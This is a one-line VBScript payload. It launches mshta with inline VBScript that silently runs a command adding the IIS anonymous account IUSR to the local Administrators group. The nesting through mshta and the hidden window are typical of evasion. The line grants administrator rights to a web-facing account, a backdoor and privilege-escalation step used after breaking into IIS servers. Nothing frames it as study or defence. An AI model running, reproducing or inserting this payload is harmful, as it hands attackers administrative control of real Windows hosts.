CreateObject("WScript.Shell").Run "mshta vbscript:Execute(""CreateObject(""""WScript.Shell"""").Run """"net localgroup Administrators IUSR /add"""", 0, True:close"")"
